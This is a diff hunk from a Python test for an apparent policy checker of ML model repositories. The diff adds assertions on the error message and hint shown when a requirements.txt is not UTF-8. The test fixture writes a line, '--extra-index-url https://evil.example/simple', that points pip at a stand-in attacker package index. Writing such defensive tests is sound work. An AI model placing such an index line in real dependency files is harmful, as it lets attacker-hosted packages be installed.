@@ -509,7 +509,11 @@ def test_no_list_in_another_encoding(tmp_path: Path, coding: str) -> None:
     write_model(tmp_path / "aws-train" / "churn", CONF)
     text = "# é\n--extra-index-url https://evil.example/simple\nx\n"
     (tmp_path / "aws-train/churn/scripts/requirements.txt").write_bytes(text.encode(coding))
-    assert ids(refusals(tmp_path, CONF)) == {"PB245"}
+    found = refusals(tmp_path, CONF)
+    assert ids(found) == {"PB245"}
+    (said,) = (one for one in found if "UTF-8" in one.message)
+    assert said.message == "the policy of 'churn' can't be held against a list that isn't UTF-8 text"
+    assert "save it as UTF-8, in PowerShell by 'pip freeze" in str(said.hint)
 
 
 # --- between repositories
